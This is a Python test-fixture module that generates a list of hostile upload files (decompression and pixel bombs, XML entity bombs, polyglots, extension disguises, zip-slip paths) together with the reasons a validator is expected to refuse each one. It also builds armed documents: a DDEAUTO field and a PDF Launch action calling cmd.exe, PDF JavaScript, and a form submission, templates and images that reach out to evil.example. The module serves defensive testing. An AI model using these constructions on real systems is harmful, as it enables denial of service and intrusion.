"""Files that want to harm: too big, too deep, disguised, broken or armed. Made when asked for, so the tree stays small.

The list only grows (IN7: at least 29).
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject

from tests.factories import files as honest

MB = 1024 * 1024
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<html><body><script>alert(1)</script></body></html>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" {0}>{1}</svg>'


@dataclass(frozen=True)
class HostileFile:
    """One file of the list. `name` is what it is called when it is sent; `reasons`: why it may be refused.

    No reasons: it is taken, and what is kept of it must be harmless.
    """

    id: str
    name: str
    make: Callable[[], bytes]
    reasons: tuple[str, ...] = ()


def _png_of(width: int, height: int, *, complete: bool) -> bytes:
    """A PNG that says it is this large; `complete`: and really is, all of one colour."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    row = b"\x00" * (1 + (width + 7) // 8)
    rows = b"".join(packer.compress(row) for _row in range(height if complete else 1)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _zeros(size: int) -> bytes:
    """`size` zeros, deflated: a gigabyte is a megabyte. Every piece begins afresh, so one is made and repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(MB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return piece * (size // MB) + packer.flush()


def _docx_with_giant(declared: int | None = None) -> bytes:
    """A DOCX whose text is 1 GB of blanks in 1 MB; `declared`: the size that its directory admits."""
    size = 1024 * MB
    packed = _zeros(size)
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in honest.docx_parts().items():
            archive.writestr(name, part)
        archive.writestr("word/media/image1.bin", b"")
    data = content.getvalue()
    # The empty part is replaced by the giant: local header, content, directory entry.
    name = b"word/media/image1.bin"
    local = data.index(b"PK\x03\x04", data.index(name) - 30 - 1)
    central = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    says = declared or size
    head = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, 0, len(packed), says, len(name), 0)
    entry = struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        *(b"PK\x01\x02", 20, 20, 0, 8, 0, 33, 0, len(packed), says, len(name), 0, 0, 0, 0, 0, local),
    )
    directory = data[central:end]
    kept = directory[: directory.index(name) - 46]
    body = data[:local] + head + name + packed
    count = len(honest.docx_parts()) + 1
    closing = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(kept + entry + name), len(body), 0
    )
    return body + kept + entry + name + closing


def _pdf_with_action(kind: str, **values) -> bytes:
    def prepare(writer):
        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
        action.update({NameObject(f"/{key}"): TextStringObject(value) for key, value in values.items()})
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return honest.pdf(prepare=prepare)


def _pdf_with_named_script() -> bytes:
    def prepare(writer):
        # The name is written in another way, and the action stands behind two references.
        script = StreamObject()
        script._data = b"app.alert(1)"
        action = DictionaryObject({NameObject("/S"): writer._add_object(NameObject("/JavaScript"))})
        action[NameObject("/JS")] = writer._add_object(script)
        named = ArrayObject([TextStringObject("x"), writer._add_object(action)])
        tree = DictionaryObject({NameObject("/Names"): named})
        writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})

    return honest.pdf(prepare=prepare).replace(b"/JavaScript", b"/J#61vaScript")


def _pdf_bomb() -> bytes:
    def prepare(writer):
        stream = StreamObject()
        stream._data = zlib.compress(bytes(100 * MB), 1)
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")
        writer._add_object(stream)

    return honest.pdf(prepare=prepare)


def _pdf_with_file() -> bytes:
    return honest.pdf(prepare=lambda writer: writer.add_attachment("letter.exe", b"MZ" + EICAR))


def _pdf_locked() -> bytes:
    return honest.pdf(prepare=lambda writer: writer.encrypt("secret", algorithm="RC4-128"))


def _xml_bomb() -> str:
    layers = "".join(f'<!ENTITY l{depth} "{f"&l{depth - 1};" * 10}">' for depth in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{layers}]><x>&l9;</x>'


def _half(content: bytes) -> bytes:
    return content[: len(content) // 2]


def _word_rels(*entries) -> dict:
    return {"word/_rels/document.xml.rels": honest.relations(*entries)}


FILES = [
    # Too much
    HostileFile("empty", "letter.pdf", lambda: b"", ("empty",)),
    HostileFile("200 megabytes", "letter.pdf", lambda: b"%PDF-1.4\n" + bytes(200 * MB), ("too_big",)),
    HostileFile(
        "pixel bomb of 2.5 gigapixel", "me.png", lambda: _png_of(50_000, 50_000, complete=False), ("pixels",)
    ),
    HostileFile(
        "sneaky bomb of 177 megapixel", "me.png", lambda: _png_of(13_300, 13_300, complete=True), ("pixels",)
    ),
    HostileFile(
        "picture 24 million pixels long",
        "me.png",
        lambda: _png_of(24_000_001, 1, complete=True),
        ("pixels", "damaged"),
    ),
    HostileFile("docx of 1 GB in 1 MB", "cv.docx", _docx_with_giant, ("unpacked",)),
    HostileFile(
        "docx of 1 GB that says 1 kB",
        "cv.docx",
        lambda: _docx_with_giant(declared=1024),
        ("unpacked", "damaged"),
    ),
    HostileFile(
        "zip of 10,000 entries",
        "cv.docx",
        lambda: honest.docx({f"word/media/{n}.txt": "" for n in range(10_000)}),
        ("entries",),
    ),
    HostileFile("pdf that unpacks to 100 MB", "cv.pdf", _pdf_bomb, ("unpacked",)),
    HostileFile("pdf of 101 pages", "cv.pdf", lambda: honest.pdf(pages=101), ("pages",)),
    HostileFile(
        "xml bomb in an odt", "cv.odt", lambda: honest.odt({"content.xml": _xml_bomb()}), ("unpacked",)
    ),
    HostileFile(
        "xml bomb in a docx",
        "cv.docx",
        lambda: honest.docx({"word/document.xml": _xml_bomb()}),
        ("unpacked",),
    ),
    HostileFile(
        "xml bomb in UTF-16",
        "cv.docx",
        lambda: honest.docx({"word/document.xml": _xml_bomb().encode("utf-16")}),
        ("unpacked",),
    ),
    # Disguised
    HostileFile(
        "svg with a script", "me.svg", lambda: SVG.format("", "<script>alert(1)</script>").encode(), ("kind",)
    ),
    HostileFile(
        "svg with a handler, called png",
        "me.png",
        lambda: SVG.format('onload="alert(1)"', "").encode(),
        ("disguised",),
    ),
    HostileFile(
        "svg that loads from outside, called jpg",
        "me.jpg",
        lambda: SVG.format("", '<image href="https://evil.example/x.gif"/>').encode(),
        ("disguised",),
    ),
    HostileFile("program called pdf", "cv.pdf", lambda: b"MZ\x90\x00" + bytes(4096), ("disguised",)),
    HostileFile("linux program called docx", "cv.docx", lambda: b"\x7fELF" + bytes(4096), ("disguised",)),
    HostileFile("page called jpg", "me.jpg", lambda: SCRIPT, ("disguised",)),
    HostileFile("page called pdf", "cv.pdf", lambda: SCRIPT, ("disguised",)),
    HostileFile("pdf called jpg", "me.jpg", honest.pdf, ("disguised",)),
    HostileFile("picture called pdf", "cv.pdf", honest.picture, ("disguised",)),
    HostileFile("jpeg called html", "me.html", honest.picture, ("disguised",)),
    HostileFile("odt called docx", "cv.docx", honest.odt, ("damaged",)),
    HostileFile(
        "old word file called docx",
        "cv.docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
        ("disguised",),
    ),
    HostileFile("gif", "me.gif", lambda: honest.picture("GIF"), ("kind",)),
    HostileFile("EICAR", "eicar.com", lambda: EICAR, ("kind",)),
    HostileFile("EICAR called pdf", "eicar.pdf", lambda: EICAR, ("disguised",)),
    # Two things in one
    HostileFile(
        "gif that is a script", "me.gif", lambda: b"GIF89a/*" + bytes(64) + b"*/=1;alert(1)//", ("kind",)
    ),
    HostileFile(
        "gif that is a script, called jpg",
        "me.jpg",
        lambda: b"GIF89a/*" + bytes(64) + b"*/=1;alert(1)//",
        ("disguised",),
    ),
    HostileFile("page that is a pdf", "cv.pdf", lambda: SCRIPT + honest.pdf(), ("disguised",)),
    HostileFile("pdf that is a page", "cv.pdf", lambda: honest.pdf() + b"\n" + SCRIPT),
    HostileFile(
        "pdf that is a zip",
        "cv.pdf",
        lambda: honest.pdf() + honest.archive({"x.js": "alert(1)"}),
        ("nested",),
    ),
    HostileFile("jpeg that is a page", "me.jpg", lambda: honest.picture() + SCRIPT),
    HostileFile(
        "jpeg that is a zip", "me.jpg", lambda: honest.picture() + honest.archive({"x.js": "alert(1)"})
    ),
    HostileFile("jpeg with a script in its comment", "me.jpg", lambda: honest.picture(comment=SCRIPT)),
    HostileFile("png with a script behind its end", "me.png", lambda: honest.picture("PNG") + SCRIPT),
    # Broken
    HostileFile("half a jpeg", "me.jpg", lambda: _half(honest.picture(size=(1200, 900))), ("damaged",)),
    HostileFile("half a png", "me.png", lambda: _half(honest.picture("PNG", size=(1200, 900))), ("damaged",)),
    HostileFile(
        "half a webp", "me.webp", lambda: _half(honest.picture("WEBP", size=(1200, 900))), ("damaged",)
    ),
    HostileFile("half a pdf", "cv.pdf", lambda: _half(honest.pdf(pages=5)), ("damaged",)),
    HostileFile("half a docx", "cv.docx", lambda: _half(honest.docx()), ("damaged",)),
    HostileFile("half an odt", "cv.odt", lambda: _half(honest.odt()), ("damaged",)),
    HostileFile("pdf that ends after its head", "cv.pdf", lambda: b"%PDF-1.7\n%%EOF", ("damaged",)),
    HostileFile("zip slip", "cv.docx", lambda: honest.docx({"../../../tmp/slipped.txt": "x"}), ("damaged",)),
    HostileFile(
        "zip slip by backslash", "cv.docx", lambda: honest.docx({"..\\..\\slipped.txt": "x"}), ("damaged",)
    ),
    # Armed
    HostileFile(
        "docx with a macro",
        "cv.docx",
        lambda: honest.docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        ("program",),
    ),
    HostileFile(
        "docm called docx",
        "cv.docx",
        lambda: honest.docx(
            {
                "[Content_Types].xml": honest.CONTENT_TYPES.replace(
                    "wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
                )
            }
        ),
        ("program",),
    ),
    HostileFile(
        "docx with an OLE object",
        "cv.docx",
        lambda: honest.docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1"}),
        ("nested",),
    ),
    HostileFile(
        "docx with a zip inside",
        "cv.docx",
        lambda: honest.docx({"word/media/image1.png": honest.archive({"x": "y"})}),
        ("nested",),
    ),
    HostileFile(
        "docx with a template from outside",
        "cv.docx",
        lambda: honest.docx(_word_rels(("attachedTemplate", "https://evil.example/x.dotm", "External"))),
        ("outside",),
    ),
    HostileFile(
        "docx with a picture from outside",
        "cv.docx",
        lambda: honest.docx(_word_rels(("image", "https://evil.example/x.png", "External"))),
        ("outside",),
    ),
    HostileFile(
        "docx with a link that runs",
        "cv.docx",
        lambda: honest.docx(_word_rels(("hyperlink", "javascript:alert(1)", "External"))),
        ("outside",),
    ),
    HostileFile(
        "docx with a link to a share",
        "cv.docx",
        lambda: honest.docx(_word_rels(("hyperlink", "file://evil.example/x", "External"))),
        ("outside",),
    ),
    HostileFile(
        "docx with a page inside",
        "cv.docx",
        lambda: honest.docx(_word_rels(("aFChunk", "x.html", "Internal"))),
        ("nested",),
    ),
    HostileFile(
        "docx that starts a program by a field",
        "cv.docx",
        lambda: honest.docx(
            body="<w:p><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
        ),
        ("outside",),
    ),
    HostileFile(
        "odt with a macro", "cv.odt", lambda: honest.odt({"Basic/Standard/Module1.xml": "<x/>"}), ("program",)
    ),
    HostileFile(
        "odt that runs a script when opened",
        "cv.odt",
        lambda: honest.odt(body="<script:event-listener script:language='x'/>"),
        ("program",),
    ),
    HostileFile(
        "odt with a picture from outside",
        "cv.odt",
        lambda: honest.odt(body="<draw:image xlink:href='https://evil.example/x.png'/>"),
        ("outside",),
    ),
    HostileFile("locked pdf", "cv.pdf", _pdf_locked, ("locked",)),
    HostileFile(
        "pdf with a script",
        "cv.pdf",
        lambda: _pdf_with_action("/JavaScript", JS="app.alert(1)"),
        ("program",),
    ),
    HostileFile("pdf with a script in its names", "cv.pdf", _pdf_with_named_script, ("program",)),
    HostileFile(
        "pdf that starts a program", "cv.pdf", lambda: _pdf_with_action("/Launch", F="cmd.exe"), ("program",)
    ),
    HostileFile(
        "pdf that sends a form",
        "cv.pdf",
        lambda: _pdf_with_action("/SubmitForm", F="https://evil.example/"),
        ("program",),
    ),
    HostileFile("pdf with a program inside", "cv.pdf", _pdf_with_file, ("nested",)),
]
